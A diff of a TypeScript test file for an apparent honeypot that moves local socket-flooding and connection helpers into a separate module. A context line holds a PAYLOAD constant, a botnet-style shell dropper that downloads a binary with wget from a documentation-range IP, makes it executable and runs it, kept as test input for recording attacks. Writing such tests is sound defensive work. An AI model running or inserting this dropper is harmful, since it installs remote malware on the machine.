@@ -1,9 +1,10 @@
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { createHash, randomBytes } from "node:crypto";
 import { readFileSync } from "node:fs";
-import { createConnection, type Socket } from "node:net";
+import type { Socket } from "node:net";
 import { join } from "node:path";
 import { Relay, removeDir, run, startPot, type Pot } from "./harness";
+import { flood, open, closed, closedCount, rssKb } from "./hostile";
 
 const TIMESTAMP = expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
 const PAYLOAD = "#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins/x86; chmod +x x86; ./x86 web.exploit\n";
@@ -278,44 +279,6 @@ describe("nmap -sV", () => {
     }
   }, 240_000);
 });
-
-/** Writes `total` bytes of `chunk`s to a socket as fast as it takes them, until done or closed. */
-async function flood(socket: Socket, chunk: Buffer, total: number): Promise<number> {
-  let sent = 0;
-  while (sent < total && !socket.destroyed) {
-    if (!socket.write(chunk)) await new Promise<void>((resolve) => (socket.once("drain", resolve), socket.once("close", resolve)));
-    sent += chunk.length;
-  }
-  return sent;
-}
-
-function open(port: number): Promise<Socket> {
-  return new Promise((resolve) => {
-    const socket = createConnection({ host: "127.0.0.1", port }, () => resolve(socket));
-    socket.on("error", () => {});
-    socket.on("data", () => {});
-  });
-}
-
-function closed(socket: Socket): Promise<void> {
-  return new Promise((resolve) => (socket.destroyed ? resolve() : socket.once("close", () => resolve())));
-}
-
-/** Resolves once `count` of the sockets have been closed (by the pot). */
-function closedCount(sockets: Socket[], count: number): Promise<number> {
-  let n = 0;
-  const { promise, resolve } = Promise.withResolvers<number>();
-  for (const socket of sockets) {
-    void closed(socket).then(() => {
-      if (++n >= count) resolve(n);
-    });
-  }
-  return promise;
-}
-
-function rssKb(pid: number): number {
-  return Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1]);
-}
 
 describe("hostile input", () => {
   test("garbage, floods past every bound and too many connections: the pot stays up and small, and curl is still recorded", async () => {
